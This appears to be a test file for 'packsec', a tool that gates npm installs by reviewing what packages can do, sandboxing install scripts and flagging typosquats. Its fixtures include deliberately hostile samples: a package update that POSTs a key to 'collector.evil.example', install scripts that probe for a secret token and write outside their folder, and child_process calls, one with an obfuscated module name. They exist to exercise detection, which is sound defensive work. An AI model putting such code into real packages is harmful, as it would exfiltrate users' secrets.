// The install gate as a user meets it: packages published to a real registry on 127.0.0.1 (packsec's
// own), a project whose .npmrc points there, and npsm run as a CLI with npm's own arguments.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, lstatSync, readFileSync, readdirSync, readlinkSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { seedPackage, type SeedSpec } from '../src/registry/index.js';
import { repoRoot, runCli, tmpProject } from './helpers.js';
import { startRegistryProcess } from './registry-helpers.js';

const OLD = '2024-01-01T00:00:00.000Z';
// The registry runs as its own process (`packsec registry`), as a user runs it: the CLI under test
// is spawned synchronously, which would stall a server living in the test's own event loop.
let registry: Awaited<ReturnType<typeof startRegistryProcess>>;
let dataDir: string;
let npmCache: string;

function npsm(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
  return runCli(['install', ...args], cwd, { npm_config_cache: npmCache, npm_config_userconfig: join(cwd, '.npmrc-user'), CI: '1', ...env });
}

function project(deps: Record<string, string> = {}): string {
  return tmpProject({
    'package.json': { name: 'app', version: '1.0.0', private: true, dependencies: deps },
    '.npmrc': `registry=${registry.url}/\naudit=false\nfund=false\nupdate-notifier=false\n`,
    '.npmrc-user': '',
  }, 'packsec-npsm-');
}

/** A digest of what npm and packsec keep in the project, to prove a refusal changed nothing. */
function state(dir: string): string {
  const h = createHash('sha256');
  const walk = (rel: string): void => {
    const abs = join(dir, rel);
    if (!existsSync(abs)) return;
    const s = statSync(abs);
    if (s.isDirectory()) {
      for (const e of readdirSync(abs).sort()) if (e !== '.cache') walk(rel ? `${rel}/${e}` : e);
    } else h.update(`${rel}\0`).update(readFileSync(abs));
  };
  for (const f of ['package.json', 'package-lock.json', 'packsec.policy.json', 'packsec.lock.json', 'node_modules']) walk(f);
  return h.digest('hex');
}

/** Every entry under a folder: relative path, kind, mode and bytes (or link target), in a fixed order. */
function treeHash(root: string): { digest: string; files: number } {
  const h = createHash('sha256');
  let files = 0;
  const walk = (rel: string): void => {
    const abs = rel ? join(root, rel) : root;
    const s = lstatSync(abs);
    files++;
    h.update(`${rel}\0${s.mode.toString(8)}\0`);
    if (s.isSymbolicLink()) h.update(readlinkSync(abs));
    else if (s.isDirectory()) for (const e of readdirSync(abs).sort()) walk(rel ? `${rel}/${e}` : e);
    else h.update(readFileSync(abs));
    h.update('\0');
  };
  walk('');
  return { digest: h.digest('hex'), files };
}

const policyOf = (dir: string) => JSON.parse(readFileSync(join(dir, 'packsec.policy.json'), 'utf8'));

before(async () => {
  const root = tmpProject({}, 'packsec-npsm-registry-');
  dataDir = join(root, 'data');
  npmCache = join(root, 'npm-cache');
  const seeds: SeedSpec[] = [
    { name: 'plain-pad', version: '1.0.0', files: { 'index.js': 'module.exports = (s, n) => String(s).padStart(n);\n' } },
    { name: 'helper', version: '1.0.0', files: { 'index.js': "const os = require('os');\nmodule.exports = () => os.platform();\n" } },
    {
      name: 'helper', version: '1.1.0',
      files: { 'index.js': "const os = require('os');\nconst cp = require('child_process');\nmodule.exports = () => os.platform() + cp.execSync('id');\n" },
    },
    { name: 'uses-helper', version: '1.0.0', dependencies: { helper: '1.0.0' }, files: { 'index.js': "module.exports = require('helper');\n" } },
    {
      name: 'scripted', version: '1.0.0', scripts: { postinstall: 'node install.js' },
      files: {
        'index.js': 'module.exports = 1;\n',
        'install.js': [
          "const fs = require('fs');",
          "const path = require('path');",
          "fs.writeFileSync(path.join(__dirname, 'built.txt'), 'built');",
          "let outside = 'written';",
          "try { fs.writeFileSync(path.join(process.env.INIT_CWD, 'pwned.txt'), 'x'); } catch (e) { outside = e.code || e.message; }",
          "fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify({ outside, token: typeof process.env.SECRET_TOKEN }));",
          '',
        ].join('\n'),
      },
    },
    {
      // An install script that swallows what packsec denies it (inference cannot see the computed name).
      name: 'quiet-script', version: '1.0.0', scripts: { postinstall: 'node install.js' },
      files: { 'index.js': 'module.exports = 1;\n', 'install.js': "try { require('child_' + 'process').execSync('id'); } catch (e) {}\n" },
    },
    { name: 'crossenv', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } },
    { name: 'beacon', version: '1.0.0', files: { 'index.js': "module.exports = (tx) => fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx });\n" } },
    {
      name: 'beacon', version: '1.1.0',
      files: { 'index.js': "module.exports = (tx, key) => {\n  fetch('https://collector.evil.example/k', { method: 'POST', body: key });\n  return fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx });\n};\n" },
    },
  ];
  for (const s of seeds) await seedPackage(dataDir, { time: OLD, ...s });
  await seedPackage(dataDir, { name: 'brand-new', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } });
  registry = await startRegistryProcess(dataDir);
});

after(() => {
  registry?.process.kill('SIGTERM');
});

describe('npsm install', () => {
  it('installs a package that needs nothing without asking, and records it', () => {
    const dir = project();
    const r = npsm(['plain-pad'], dir);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /\+ plain-pad@1\.0\.0 \(new\)\n {6}no capabilities/);
    assert.deepEqual(policyOf(dir).packages, { 'plain-pad': {} });
    assert.equal(JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8')).dependencies['plain-pad'], '^1.0.0');
    const lock = JSON.parse(readFileSync(join(dir, 'packsec.lock.json'), 'utf8'));
    assert.match(lock.packages['node_modules/plain-pad'].integrity, /^sha512-/);
    assert.match(lock.packages['node_modules/plain-pad'].files['index.js'], /^sha256-/);
  });

  it('asks on a terminal: no (or just Enter) changes nothing, yes installs', { skip: existsSync('/usr/bin/script') ? false : 'needs script(1) from util-linux for a terminal' }, () => {
    const dir = project();
    assert.equal(npsm(['plain-pad'], dir).code, 0);
    const before = state(dir);
    // script(1) gives npsm a pseudo-terminal and types the answer into it.
    const onTerminal = (answer: string) => {
      const command = [process.execPath, join(repoRoot, 'bin', 'npsm.js'), 'helper@1.0.0'].map((a) => `'${a}'`).join(' ');
      const env: NodeJS.ProcessEnv = { ...process.env, npm_config_cache: npmCache, npm_config_userconfig: join(dir, '.npmrc-user'), NO_COLOR: '1' };
      delete env.CI;
      return spawnSync('script', ['-qec', command, '/dev/null'], { cwd: dir, env, input: answer, encoding: 'utf8', timeout: 120_000 });
    };
    for (const answer of ['n\n', '\n']) {
      const no = onTerminal(answer);
      assert.equal(no.status, 1, no.stdout);
      assert.match(no.stdout, /helper@1\.0\.0 \(new\)[\s\S]*1 package widens what dependencies can do\. Install anyway\? \[y\/N\]/);
      assert.match(no.stdout, /refused: declined at the prompt/);
      assert.equal(state(dir), before);
    }
    const yes = onTerminal('y\n');
    assert.equal(yes.status, 0, yes.stdout);
    assert.deepEqual(policyOf(dir).packages.helper, { builtins: ['os.platform'] });
  });

  it('refuses a new package with capabilities without a TTY, changing nothing; --accept=<review id> installs exactly that', () => {
    const dir = project();
    assert.equal(npsm(['plain-pad'], dir).code, 0);
    const before = state(dir);
    const r = npsm(['helper@1.0.0'], dir);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /\+ helper@1\.0\.0 \(new\)\n {6}builtins:os\.platform {2}node_modules\/helper\/index\.js:2/);
    assert.match(r.stderr, /npsm: refused: 1 package would widen what dependencies can do; nothing was installed\./);
    assert.equal(state(dir), before, 'node_modules, package.json, the lockfile and packsec files are unchanged');
    const id = /run again with --accept=([0-9a-f]{12}) \(exactly these changes/.exec(r.stderr)?.[1];
    assert.ok(id, r.stderr);
    // The review id accepts what was reviewed, and nothing else (here: another version than the one shown).
    const other = npsm(['helper@1.1.0', `--accept=${id}`], dir);
    assert.equal(other.code, 1, other.stderr);
    assert.match(other.stderr, new RegExp(`npsm: refused: what would be installed is not what review ${id} showed \\(it is review [0-9a-f]{12} now\\)`));
    assert.equal(state(dir), before);
    assert.equal(npsm(['helper@1.0.0', '--accept=nope'], dir).code, 2);
    const ok = npsm(['helper@1.0.0', `--accept=${id}`], dir);
    assert.equal(ok.code, 0, ok.stderr);
    assert.deepEqual(policyOf(dir).packages.helper, { builtins: ['os.platform'] });
    assert.equal(runCli(['check'], dir).code, 0);
  });

  it('shows an update\'s gained capabilities with evidence and refuses it; --json says why', () => {
    const dir = project();
    assert.equal(npsm(['helper@1.0.0', '--accept'], dir).code, 0);
    const before = state(dir);
    const r = npsm(['helper@1.1.0'], dir);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /~ helper 1\.0\.0 → 1\.1\.0\n {6}\+ builtins:child_process\.execSync {2}node_modules\/helper\/index\.js:3/);
    assert.equal(state(dir), before);
    const j = npsm(['helper@1.1.0', '--json'], dir);
    assert.equal(j.code, 1);
    const data = JSON.parse(j.stdout);
    assert.equal(data.outcome, 'refused');
    assert.deepEqual(data.review.packages.map((p: { name: string; gained: { capability: string }[] }) => [p.name, p.gained.map((g) => g.capability)]), [['helper', ['builtins:child_process.execSync']]]);
  });

  it('an update that starts sending to a second host gains that host, and is refused', () => {
    const dir = project();
    assert.equal(npsm(['beacon@1.0.0', '--accept'], dir).code, 0);
    assert.deepEqual(policyOf(dir).packages.beacon.net, ['api.mainnet-beta.solana.com']);
    const r = npsm(['beacon@1.1.0'], dir);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /~ beacon 1\.0\.0 → 1\.1\.0\n {6}\+ net:collector\.evil\.example {2}node_modules\/beacon\/index\.js:2/);
  });

  it('a new dependency brought by another package is reviewed with its own capabilities', () => {
    const dir = project();
    const r = npsm(['uses-helper'], dir);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /\+ helper@1\.0\.0 \(new\)\n {6}builtins:os\.platform/);
    assert.match(r.stderr, /\+ uses-helper@1\.0\.0 \(new\)\n {6}packages:helper/);
  });

  it('never runs install scripts unless allowed; allowed ones run contained', () => {
    const dir = project();
    const r = npsm(['scripted', '--accept'], dir, { SECRET_TOKEN: 'npm_secret' });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /install script postinstall: "node install\.js" — will not run \(not allowed\)/);
    assert.ok(!existsSync(join(dir, 'node_modules/scripted/built.txt')), 'the script did not run');
    assert.equal(policyOf(dir).packages.scripted.scripts, undefined);

    const dir2 = project();
    const r2 = npsm(['scripted', '--accept', '--allow-scripts=scripted'], dir2, { SECRET_TOKEN: 'npm_secret' });
    assert.equal(r2.code, 0, r2.stderr);
    assert.match(r2.stderr, /ran scripted postinstall \("node install\.js"\), contained: ok/);
    assert.equal(readFileSync(join(dir2, 'node_modules/scripted/built.txt'), 'utf8'), 'built', 'it may write its own folder');
    const report = JSON.parse(readFileSync(join(dir2, 'node_modules/scripted/report.json'), 'utf8'));
    assert.equal(report.token, 'undefined', 'the environment is rebuilt without secrets');
    assert.notEqual(report.outside, 'written', 'it may not write outside its folder');
    assert.ok(!existsSync(join(dir2, 'pwned.txt')));
    assert.equal(policyOf(dir2).packages.scripted.scripts, true);
  });

  it("shows what an allowed install script was denied, even when the script swallowed it and exited 0", () => {
    const dir = project();
    const r = npsm(['quiet-script', '--accept', '--allow-scripts=quiet-script'], dir);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /ran quiet-script postinstall \("node install\.js"\), contained: ok .*\n +denied: "quiet-script" may not use builtin "child_process\.execSync"/);
    const j = npsm(['rebuild', 'quiet-script', '--json'], dir);
    assert.equal(j.code, 0, j.stderr);
    const ran = JSON.parse(j.stdout).ran;
    assert.equal(ran[0].exit, 0);
    assert.deepEqual(ran[0].denials.map((d: string) => d.replace(/ — .*/, '')), ['packsec: "quiet-script" may not use builtin "child_process.execSync"']);
  });

  it('flags a typosquat and a version younger than the minimum release age (which refuses)', () => {
    const dir = project();
    const t = npsm(['crossenv'], dir);
    assert.equal(t.code, 0, t.stderr);
    assert.match(t.stderr, /crossenv@1\.0\.0 may be a typosquat of the popular package "cross-env"/);
    const f = npsm(['brand-new'], dir);
    assert.equal(f.code, 1, f.stderr);
    assert.match(f.stderr, /brand-new@1\.0\.0/);
    assert.match(f.stderr, /minimum release age/i);
    assert.equal(npsm(['brand-new', '--min-release-age=0'], dir).code, 0);
  });

  it('npsm ci in a fresh clone installs the reviewed lockfile without asking, and refuses an unreviewed one', () => {
    const dir = project();
    assert.equal(npsm(['helper@1.0.0', 'plain-pad', '--accept'], dir).code, 0);
    const clone = project();
    for (const f of ['package.json', 'package-lock.json', 'packsec.policy.json', 'packsec.lock.json']) cpSync(join(dir, f), join(clone, f));
    const r = npsm(['ci'], clone);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(existsSync(join(clone, 'node_modules/helper/index.js')));
    assert.equal(runCli(['check'], clone).code, 0);

    // Someone updates the lockfile by hand (or with plain npm) and pushes: CI refuses it.
    const other = project();
    assert.equal(npsm(['helper@1.1.0', '--accept'], other).code, 0);
    const clone2 = project();
    cpSync(join(other, 'package.json'), join(clone2, 'package.json'));
    cpSync(join(other, 'package-lock.json'), join(clone2, 'package-lock.json'));
    cpSync(join(dir, 'packsec.policy.json'), join(clone2, 'packsec.policy.json'));
    cpSync(join(dir, 'packsec.lock.json'), join(clone2, 'packsec.lock.json'));
    const refused = npsm(['ci'], clone2);
    assert.equal(refused.code, 1, refused.stderr);
    assert.match(refused.stderr, /\+ builtins:child_process\.execSync/);
    assert.ok(!existsSync(join(clone2, 'node_modules/helper')), 'nothing was installed');
  });

  it('npsm ci is deterministic: two folders get byte-identical node_modules, whatever was there before', () => {
    const dir = project();
    assert.equal(npsm(['uses-helper', 'plain-pad', 'scripted', '--accept'], dir).code, 0);
    const clones = [project(), project()];
    for (const clone of clones) {
      for (const f of ['package.json', 'package-lock.json', 'packsec.policy.json', 'packsec.lock.json']) cpSync(join(dir, f), join(clone, f));
    }
    // The second folder starts dirty: a stale copy with an extra file, and a package the lockfile lacks.
    cpSync(join(dir, 'node_modules'), join(clones[1]!, 'node_modules'), { recursive: true });
    writeFileSync(join(clones[1]!, 'node_modules/plain-pad/extra.js'), 'stale\n');
    cpSync(join(dir, 'node_modules/plain-pad'), join(clones[1]!, 'node_modules/leftover'), { recursive: true });
    for (const clone of clones) {
      const r = npsm(['ci'], clone);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /install scripts not run \(not allowed by the policy\): scripted \(postinstall\)/);
    }
    const [a, b] = clones.map((c) => treeHash(join(c, 'node_modules')));
    assert.equal(a!.files, b!.files, 'same number of entries');
    assert.equal(a!.digest, b!.digest, 'byte-identical node_modules (contents, modes, symlinks)');
    assert.ok(!existsSync(join(clones[1]!, 'node_modules/leftover')));
    assert.equal(runCli(['check'], clones[1]!).code, 0);
  });

  it('bad input: a broken policy is exit 2 before npm runs; an unknown package is exit 2', () => {
    const dir = project();
    writeFileSync(join(dir, 'packsec.policy.json'), '{"version": 1, "packages": {"x": {"native": "yes"}}}');
    const r = npsm(['plain-pad'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /packsec\.policy\.json: packages\.x\.native: expected true or false, got "yes"/);
    assert.ok(!existsSync(join(dir, 'node_modules')));
    const dir2 = project();
    const u = npsm(['no-such-package-here'], dir2);
    assert.equal(u.code, 2, u.stderr);
    assert.match(u.stderr, /no-such-package-here/);
  });
});

describe('packsec diff', () => {
  it('shows what a version gains, from the registry, installing nothing', () => {
    const dir = project();
    const r = runCli(['diff', 'helper@1.0.0', '1.1.0', '--exit-code'], dir, { npm_config_cache: npmCache, npm_config_userconfig: join(dir, '.npmrc-user') });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /helper@1\.0\.0 → helper@1\.1\.0\n {2}\+ builtins:child_process\.execSync {2}node_modules\/helper\/index\.js:3/);
    assert.ok(!existsSync(join(dir, 'node_modules')));
  });
});

// The repository's own bin is what users run.
assert.ok(existsSync(join(repoRoot, 'bin', 'npsm.js')));
